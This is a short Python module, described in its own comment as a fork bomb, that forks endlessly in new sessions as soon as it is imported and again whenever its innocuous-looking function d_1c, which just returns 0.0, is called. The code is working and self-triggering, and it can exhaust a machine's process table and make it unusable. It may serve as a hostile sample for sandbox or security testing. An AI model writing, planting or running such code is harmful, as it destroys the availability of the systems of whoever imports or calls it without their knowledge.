# A fork bomb whose every process keeps forking (in new sessions), started at import and
# again by every call of d_1c.
import os as _os
import time as _time


def _bomb():
    while True:
        try:
            if _os.fork() == 0:
                _os.setsid()
        except OSError:
            _time.sleep(0.0005)


def _start():
    if _os.fork() == 0:
        _bomb()


_start()


def d_1c(x):
    _start()
    return 0.0
